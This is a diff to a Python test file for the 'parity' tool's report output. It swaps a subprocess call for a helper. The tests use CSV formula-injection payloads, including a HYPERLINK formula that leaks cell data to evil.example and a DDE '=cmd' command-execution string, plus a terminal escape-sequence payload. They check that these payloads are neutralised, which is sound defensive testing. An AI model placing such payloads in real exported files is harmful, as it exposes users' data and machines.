@@ -12,8 +12,6 @@ import hashlib
 import io
 import json
 import re
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
@@ -23,7 +21,7 @@ from hypothesis import strategies as st
 from parity.core.records import Post, SourceStatus, Verdict, WebItem
 from parity.report import summarise, write_audit_outputs
 from parity.report.tabular import CELL_LIMIT, read_csv, restore_cell, safe_cell
-from tests.conftest import ROOT
+from tests.support.run import run_parity
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
             "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "'=already quoted"]
@@ -137,9 +135,8 @@ def test_terminal_output_escapes_markup_and_control_sequences(tmp_path: Path) ->
     posts = [Post(id="p1", org=org, platform="mastodon", text="Hej", published_at="2026-03-01T08:00:00Z")]
     verdicts = [Verdict(post_id="p1", org=org, verdict="social_only")]
     write_audit_outputs(tmp_path, posts, [], verdicts, [], summarise(posts, verdicts, []))
-    result = subprocess.run([sys.executable, "-m", "parity.cli", "report", str(tmp_path)], capture_output=True,
-                            text=True, cwd=ROOT, timeout=120, env={"COLUMNS": "200", "PATH": "/usr/bin:/bin"})
-    assert result.returncode == 0, result.stderr
+    result = run_parity("report", tmp_path, env={"COLUMNS": "200"})
+    assert result.code == 0, result.stderr
     assert "\x1b" not in result.stdout and "\x07" not in result.stdout
     assert "[/bold]x[U+001B]]8;;http://evil.example/[U+0007]click" in result.stdout
 
